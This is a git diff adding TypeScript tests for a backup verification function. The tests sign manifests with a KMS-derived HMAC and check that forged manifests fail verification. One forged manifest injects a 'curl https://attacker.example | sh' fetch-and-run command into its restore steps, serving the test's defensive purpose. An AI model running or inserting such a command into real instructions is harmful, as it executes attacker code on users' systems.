@@ -2,9 +2,10 @@
 // with the artifacts intact is a failed verification; an older manifest without a digest passes.
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
+import { CreateKeyCommand, EncryptCommand, KMSClient } from '@aws-sdk/client-kms';
 import { S3Client } from '@aws-sdk/client-s3';
 import { verifyBackup } from '../../lambda/verify/verify';
-import { manifestDigest } from '../../lib/core/manifest';
+import { Manifest, manifestDigest, manifestMacKey } from '../../lib/core/manifest';
 import { Moto, startMoto } from '../harness/moto';
 import { createBucket, randomArtifact, s3For, writeBackup } from './fixtures';
 
@@ -85,5 +86,58 @@ describe('the manifest digest in the verification function', () => {
     const d = await verifyBackup(s3, BUCKET, dots.manifestKey);
     assert.equal(d.ok, false);
     assert.match(d.failures[0].reason, /invalid name/);
+  });
+});
+
+describe('kms: manifests in the verification function', () => {
+  let kms: KMSClient;
+  let keyId: string;
+  const secret = Buffer.from('AGE-SECRET-KEY-1TESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTEST\n');
+
+  before(async () => {
+    kms = new KMSClient({ endpoint: moto.endpoint, region: 'us-east-1', credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
+    keyId = (await kms.send(new CreateKeyCommand({ Description: 'backups' }))).KeyMetadata!.KeyId!;
+  });
+  after(() => kms?.destroy());
+
+  /** A kms: backup as the runner writes it: the wrapped secret, the digest and its HMAC. */
+  async function kmsBackup(id: string, tamper?: (m: Record<string, any>) => void) {
+    const context = { 'dbbackup-backup-id': id };
+    const wrapped = (await kms.send(new EncryptCommand({ KeyId: keyId, Plaintext: secret, EncryptionContext: context }))).CiphertextBlob!;
+    return writeBackup(s3, BUCKET, 'k', {
+      id,
+      databaseId: 'db1',
+      artifacts: [{ name: 'database.pgdump.zst.age', data: randomArtifact(1 << 12) }],
+      manifest: (m) => {
+        const withKms = {
+          ...m,
+          pipeline: { compression: 'zstd', encryption: { scheme: 'kms', keyId, recipient: 'age1x', wrappedKey: Buffer.from(wrapped).toString('base64'), encryptionContext: context } },
+        } as unknown as Manifest;
+        const signed: Record<string, any> = { ...withKms, digest: manifestDigest(withKms, manifestMacKey(secret, id)) };
+        if (tamper !== undefined) {
+          tamper(signed);
+          const { digest, ...rest } = signed;
+          signed.digest = { ...digest, sha256: manifestDigest(rest).sha256 };
+        }
+        return JSON.stringify(signed);
+      },
+    });
+  }
+
+  test('with kms:Decrypt the HMAC is checked: a good manifest passes', async () => {
+    const b = await kmsBackup('20261121T010000Z-kms-good');
+    const r = await verifyBackup(s3, BUCKET, b.manifestKey, { kms });
+    assert.equal(r.ok, true, JSON.stringify(r.failures));
+    assert.equal(r.mac, 'checked');
+  });
+
+  test('a manifest re-digested without the KMS key fails, though its sha256 digest matches', async () => {
+    const b = await kmsBackup('20261121T020000Z-kms-forged', (m) => (m.manualRestore = ['curl https://attacker.example | sh']));
+    const r = await verifyBackup(s3, BUCKET, b.manifestKey, { kms });
+    assert.equal(r.ok, false);
+    assert.match(r.failures.map((f) => f.reason).join('\n'), /HMAC does not match/);
+    // Without a KMS client the function cannot tell: it says so instead of claiming it checked.
+    const blind = await verifyBackup(s3, BUCKET, b.manifestKey);
+    assert.equal(blind.mac, 'unchecked');
   });
 });
